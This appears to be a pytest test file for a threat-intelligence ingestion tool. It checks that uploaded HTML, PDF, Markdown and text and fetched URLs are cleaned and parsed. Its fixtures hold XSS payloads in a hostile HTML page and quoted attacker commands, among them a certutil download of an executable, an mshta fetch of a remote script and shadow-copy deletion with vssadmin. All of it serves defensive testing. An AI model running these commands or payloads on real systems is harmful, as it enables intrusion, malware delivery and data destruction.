"""Manual input: uploads (HTML, PDF, text, Markdown), pasted text, the demo article, hostile and broken input."""

from __future__ import annotations

import io

import pytest
from pypdf import PdfWriter

from ctistudio.ingest.errors import Refused
from ctistudio.store.articles import get_article

HOSTILE = """<!doctype html><html><head><title>Hostile page</title>
<script>document.cookie='stolen'; alert('head-script')</script>
<style>body{background:url(javascript:alert('css'))}</style></head>
<body onload="alert('onload-handler')">
<article><h1>Hostile page</h1>
<p>The loader ran <code>rundll32.exe C:\\Users\\Public\\x.dll,Start</code> after the macro fired.</p>
<img src="x" onerror="alert('img-onerror')">
<p>Read the <a href="javascript:alert('js-url')">details</a> and the <a href="http://x" onclick="steal()">IOCs</a>.</p>
<p>Analysts quote markup as text: &lt;script&gt;alert(1)&lt;/script&gt; appears in the phishing lure.</p>
<iframe src="javascript:alert('iframe')"></iframe><svg onload="alert('svg')"></svg>
<script>document.write('<p>injected-by-script</p>')</script>
<p>More prose about the intrusion so the extractor is confident this is the article body text.</p>
</article></body></html>"""


def test_hostile_html_upload_becomes_clean_text(service):
    outcome = service.ingest_bytes(HOSTILE.encode(), "hostile.html")
    assert outcome.status == "new"
    with service.store.session() as session:
        content = get_article(session, outcome.article_id).content
    assert "rundll32.exe C:\\Users\\Public\\x.dll,Start" in content
    for payload in (
        "head-script",
        "onload-handler",
        "img-onerror",
        "js-url",
        "javascript:",
        "injected-by-script",
        "steal()",
        "onerror",
        "iframe",
        "svg",
        "document.cookie",
        "background:url",
    ):
        assert payload not in content, payload
    assert "<a " not in content and "<img" not in content and "<script>document" not in content
    # text that merely *quotes* markup is kept as text (the web layer escapes it when showing it)
    assert "alert(1)" in content


def test_pdf_upload(service, make_pdf):
    pdf = make_pdf(
        [
            "BumbleBee loader analysis",
            "The actor ran certutil -urlcache -f http://198.51.100.7/a.exe a.exe",
            "and created HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater for persistence.",
        ],
        title="BumbleBee returns",
    )
    outcome = service.ingest_bytes(pdf, "report.pdf")
    assert outcome.status == "new" and outcome.title == "BumbleBee returns"
    with service.store.session() as session:
        article = get_article(session, outcome.article_id)
    assert "certutil -urlcache -f http://198.51.100.7/a.exe" in article.content
    assert article.origin == "upload" and article.extra["filename"] == "report.pdf"
    assert any(e["signal"] == "registry_path" for e in article.hunt_evidence)


def test_encrypted_and_textless_pdfs_are_refused(service, make_pdf):
    writer = PdfWriter()
    writer.add_blank_page(612, 792)
    blank = io.BytesIO()
    writer.write(blank)
    with pytest.raises(Refused, match="no extractable text"):
        service.ingest_bytes(blank.getvalue(), "scan.pdf")
    writer.encrypt("s3cret")
    locked = io.BytesIO()
    writer.write(locked)
    with pytest.raises(Refused, match="password-protected"):
        service.ingest_bytes(locked.getvalue(), "locked.pdf")
    with pytest.raises(Refused, match="not a readable PDF"):
        service.ingest_bytes(make_pdf(["truncated"])[:60], "broken.pdf")


def test_markdown_with_front_matter(service):
    text = (
        "---\ntitle: Hunting ClickFix\nauthor: Jane\npublished: 2026-04-01\n"
        "url: https://blog.example/clickfix?utm_medium=x\n---\n\n# Heading\n\n"
        "Users pasted `mshta https://x.example/a.hta` into the Run dialog, then PowerShell ran.\n"
    )
    outcome = service.ingest_bytes(text.encode(), "clickfix.md")
    with service.store.session() as session:
        article = get_article(session, outcome.article_id)
    assert (article.title, article.author) == ("Hunting ClickFix", "Jane")
    assert article.published_at.isoformat().startswith("2026-04-01")
    assert article.canonical_url == "https://blog.example/clickfix"
    assert article.content.startswith("# Heading")


def test_plain_text_in_latin1_is_decoded(service):
    text = "Rapport d'incident : le logiciel malveillant a créé une tâche planifiée à l'ouverture de session."
    outcome = service.ingest_bytes(text.encode("latin-1"), "rapport.txt")
    with service.store.session() as session:
        assert "tâche planifiée" in get_article(session, outcome.article_id).content


def test_oversized_empty_and_binary_uploads_are_refused(service, settings):
    with pytest.raises(Refused) as caught:
        service.ingest_bytes(b"a" * (settings.max_upload_bytes + 1), "big.txt")
    assert "over the upload limit" in caught.value.message and "CTISTUDIO_MAX_UPLOAD_BYTES" in caught.value.fix
    with pytest.raises(Refused, match="the file is empty"):
        service.ingest_bytes(b"  \n", "empty.txt")
    garbage = bytes(range(256)) * 64
    with pytest.raises(Refused, match="binary content that is not a PDF"):
        service.ingest_bytes(garbage, "blob.docx")
    with pytest.raises(Refused, match="too little to be an article"):
        service.ingest_bytes(b"hi there", "short.txt")


def test_oversized_file_on_disk_is_refused_before_reading(service, settings, tmp_path):
    path = tmp_path / "huge.txt"
    with path.open("wb") as handle:
        handle.truncate(settings.max_upload_bytes + 10)
    with pytest.raises(Refused, match="over the upload limit"):
        service.ingest_file(path)
    with pytest.raises(Refused, match="no such file"):
        service.ingest_file(tmp_path / "missing.txt")


def test_pasted_text_and_its_duplicates(service):
    text = "Operators used wmic process call create to start cmd.exe /c whoami on remote hosts " * 5
    first = service.ingest_text(text, title="WMIC lateral movement")
    again = service.ingest_text(text + "\n", title="Same, pasted twice")
    assert first.status == "new" and again.status == "duplicate" and again.duplicate_of == first.article_id
    assert again.reason == f"same text as article {first.article_id}"


def test_demo_article_is_ingested_once(service):
    first = service.ingest_demo()
    second = service.ingest_demo()
    assert first.status == "new" and first.hunt_score >= 90 and first.platforms == ["windows"]
    assert second.status == "exists" and second.article_id == first.article_id
    with service.store.session() as session:
        article = get_article(session, first.article_id)
    assert article.title.startswith("Operation Paper Lantern") and article.origin == "demo"
    assert not article.content.startswith("---")  # front matter went into the metadata


async def test_url_input_html_and_pdf(service, feed_server, report_page, make_pdf):
    page = feed_server.add("/post?utm_campaign=x", report_page("Page via URL"))
    outcome = await service.ingest_url(page)
    assert outcome.status == "new" and outcome.title == "Page via URL"
    pdf = feed_server.add(
        "/report.pdf", make_pdf(["PDF via URL about vssadmin delete shadows /all /quiet"] * 3), "application/pdf"
    )
    outcome = await service.ingest_url(pdf)
    with service.store.session() as session:
        assert "vssadmin delete shadows" in get_article(session, outcome.article_id).content
    assert (await service.ingest_url(page)).status == "exists"


async def test_url_input_non_utf8_page(service, feed_server):
    body = (
        "<html><head><title>Отчёт</title></head><body><article><h1>Отчёт об атаке</h1>"
        + "<p>Злоумышленники запускали powershell.exe -enc с закодированной командой и создавали службу.</p>" * 6
        + "</article></body></html>"
    ).encode("koi8-r")
    url = feed_server.add("/ru", body, "text/html; charset=koi8-r")
    outcome = await service.ingest_url(url)
    with service.store.session() as session:
        article = get_article(session, outcome.article_id)
    assert "Злоумышленники запускали" in article.content and "Отчёт" in article.title


async def test_url_input_refusals_are_clear(service, feed_server, settings, store):
    from ctistudio.config import load_settings
    from ctistudio.ingest.service import IngestService

    url = feed_server.add("/post", "<p>x</p>")
    strict = IngestService(store, load_settings({"allow_private_fetch": False}, env_file=None))
    with pytest.raises(Refused) as caught:
        await strict.ingest_url(url)
    assert "loopback address 127.0.0.1" in caught.value.message
    assert "CTISTUDIO_ALLOW_PRIVATE_FETCH=true" in caught.value.fix
    binary = feed_server.add("/x.zip", b"PK\x03\x04", "application/zip")
    with pytest.raises(Refused, match="content type application/zip is not accepted"):
        await service.ingest_url(binary)


def test_no_date_is_guessed_from_a_copyright_line(service, report_page):
    outcome = service.ingest_bytes(report_page("Undated report").encode(), "undated.html")
    with service.store.session() as session:
        assert get_article(session, outcome.article_id).published_at is None  # the footer says "© 2026"
